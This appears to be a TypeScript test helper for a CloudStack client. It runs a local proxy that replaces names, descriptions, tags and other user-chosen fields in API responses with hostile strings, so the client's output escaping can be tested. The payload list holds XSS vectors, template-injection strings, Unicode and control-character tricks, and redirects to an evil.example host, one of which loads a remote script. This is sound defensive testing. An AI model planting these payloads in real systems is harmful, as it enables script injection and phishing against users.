import { randomUUID } from 'node:crypto';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { loadCatalog } from '../../../src/catalog/catalog.ts';
import { fieldsOfResponse } from '../../../src/catalog/response-fields.ts';
import { isRecord } from '../../../src/rows.ts';

/** What tenants could call things: scripts in every place of a page, and texts that break lines, directions and boxes. */
export const payloads: readonly string[] = [
  '<img src=x onerror=alert(1)>',
  '"><script>alert(1)</script>',
  '<svg/onload=alert(1)>',
  'javascript:alert(1)',
  "';alert(1)//",
  '<a href="https://evil.example/">x</a>',
  '</title></style></textarea><script src=https://evil.example/x.js></script>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form action="https://evil.example/"><button>Approve</button></form>',
  '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '{{constructor.constructor("alert(1)")()}} ${alert(1)} <%= 7*7 %>',
  '#/approvals?code=AAAA-AAAA&approve=1',
  'data:text/html,<script>alert(1)</script>',
  '__proto__',
  `${'W'.repeat(250)}`,
  '\u202egnp.exe\u202c \u2066hidden\u2069 \u200b\u200d',
  'a\nb\r\nc\td',
  '\u0001\u001b[2J\u0007',
  'شركة تجريبية طويلة جدا למבחן 東京ウェブサーバー',
  `Z${'\u0301'.repeat(60)}`,
  '   ',
];

// What people choose, or what is made of it; ids, states, numbers, addresses and times are CloudStack's own.
const chosen =
  /name|text|description|account|project|domain|annotation|tag|comment|label|user|email|path|city|details|message|title|scope$/i;
const own =
  /^(?:[0-9a-f-]{36}|[\d.,:/%-]*|true|false|\d{4}-\d\d-\d\dT.*|[A-Z][A-Z0-9.-]+|https?:.*|(?:[0-9a-f]{2}:){5}.*)$/;
// The account itself, what the cloud can do, and what jobs are, is asked by the server, not shown as a name.
const unchanged = /^(?:listapis|listcapabilities|login|queryasyncjobresult|getuploadparams.*)$/;

/** The same answer with hostile texts for all that people choose, at any depth; `count` tells which comes next. */
const poison = (value: unknown, name: string, next: () => string): unknown => {
  if (Array.isArray(value)) return value.map((one) => poison(one, name, next));
  if (typeof value === 'object' && value !== null)
    return Object.fromEntries(Object.entries(value).map(([key, one]) => [key, poison(one, key, next)]));
  if (typeof value !== 'string' || own.test(value)) return value;
  return chosen.test(name) || name === 'value' || name === 'key' ? next() : value;
};

/** What a list of the seed has none of, one is made of: every field that people choose. */
const withOne = (command: string, answer: unknown): unknown => {
  const found = loadCatalog().find(command)?.command;
  const [wrapper, inner] = isRecord(answer) ? (Object.entries(answer)[0] ?? []) : [];
  if (found?.result !== 'list' || wrapper === undefined || !isRecord(inner)) return answer;
  const key = [found.key ?? []].flat()[0];
  if (key === undefined || (Array.isArray(inner[key]) && inner[key].length)) return answer;
  const fields = [...(fieldsOfResponse(found.response)?.keys() ?? [])].filter(
    (field) => chosen.test(field) && !/id$/.test(field),
  );
  const row = {
    ...Object.fromEntries(fields.map((field) => [field, 'chosen'])),
    id: randomUUID(),
    tags: [{ key: 'chosen', value: 'chosen' }],
  };
  return { [wrapper]: { count: 1, [key]: [row] } };
};

/** A cloud before another one: what that answers, with hostile texts for every name, description, tag, account, project, event. */
export const startHostileCloud = async (to: string) => {
  const target = new URL(to);
  let count = 0;
  const names = new Set<string>();
  const next = (): string => payloads[count++ % payloads.length]!;
  const server = createServer((request, response) => {
    const parts: Buffer[] = [];
    request.on('data', (part: Buffer) => parts.push(part));
    request.on('end', () => {
      const body = Buffer.concat(parts);
      const { 'content-type': type = 'application/x-www-form-urlencoded' } = request.headers;
      const url = new URL(request.url ?? '/', target.origin);
      const command = (
        url.searchParams.get('command') ??
        new URLSearchParams(body.toString()).get('command') ??
        ''
      ).toLowerCase();
      void fetch(url, {
        method: request.method ?? 'GET',
        headers: { 'content-type': type },
        ...(body.length ? { body } : {}),
      })
        .then(async (answer) => {
          const text = await answer.text();
          const isShown = answer.ok && !unchanged.test(command) && text.startsWith('{');
          if (isShown) names.add(command);
          response.writeHead(answer.status, { 'content-type': 'application/json' });
          response.end(isShown ? JSON.stringify(poison(withOne(command, JSON.parse(text)), '', next)) : text);
        })
        .catch(() => response.writeHead(502).end());
    });
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return {
    url: `http://127.0.0.1:${port}${target.pathname}`,
    /** How many texts were given so far, and the commands whose answers they stand in. */
    given: () => ({ texts: count, commands: names.size }),
    close: () =>
      new Promise<void>((resolve) => {
        server.closeAllConnections();
        server.close(() => resolve());
      }),
  };
};
